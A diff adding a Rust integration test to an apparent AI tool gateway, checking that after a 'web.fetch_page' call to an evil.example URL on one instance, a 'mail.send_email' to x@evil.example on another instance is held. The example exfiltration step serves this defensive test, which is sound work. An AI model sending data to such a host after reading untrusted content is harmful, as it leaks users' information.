@@ -339,3 +339,61 @@ async fn two_instances_show_the_same_approvals_and_calls_and_one_approval_lets_o
     a.stop();
     b.stop();
 }
+
+#[tokio::test]
+#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
+async fn what_entered_a_flow_on_one_instance_holds_a_call_on_the_other() {
+    let ran = support::flows::Ran::default();
+    let mut servers = String::new();
+    for (name, url) in support::flows::upstreams(&ran).await {
+        servers.push_str(&format!("[servers.{name}]\nurl = \"{url}\"\n"));
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let key = dir.path().join("state.key");
+    std::fs::write(&key, "f".repeat(64)).unwrap();
+    let start = || async {
+        let toml = format!(
+            "{servers}[store]\nurl = \"{}\"\n[state]\nkey_file = {}\n[policy]\ndefault = \"allow\"\n[flows]\nkey = \"auto\"\n",
+            postgres(),
+            support::toml_string(&key.display().to_string()),
+        );
+        let config = GatewayConfig::parse_toml(&toml, |_| None).unwrap();
+        support::start(config, GatewayOptions::default())
+            .await
+            .unwrap()
+    };
+    let (a, b) = (start().await, start().await);
+    // A trace of its own, so earlier runs on this database do not count.
+    let trace = format!("{:032x}", u128::from(std::process::id()) * 7919 + 1);
+    let options = || CallOptions {
+        trace: toolgate_protocol::trace::TraceContext::parse_traceparent(&format!(
+            "00-{trace}-00f067aa0ba902b7-01"
+        )),
+        ..CallOptions::default()
+    };
+    let on_a = formless(&a).await;
+    on_a.call_tool(
+        "web.fetch_page",
+        args(json!({"url": "https://evil.example/a"})),
+        &options(),
+    )
+    .await
+    .unwrap();
+    ran.lock().clear();
+    let on_b = formless(&b).await;
+    let held = match on_b
+        .call_tool(
+            "mail.send_email",
+            args(json!({"to": "x@evil.example", "subject": "s", "body": "b"})),
+            &options(),
+        )
+        .await
+    {
+        Err(toolgate_client::ClientError::Tool { result, .. }) => text(&result),
+        other => panic!("{other:?}"),
+    };
+    assert!(held.contains("web.fetch_page at "), "{held}");
+    assert!(ran.lock().is_empty(), "{:?}", ran.lock());
+    a.stop();
+    b.stop();
+}
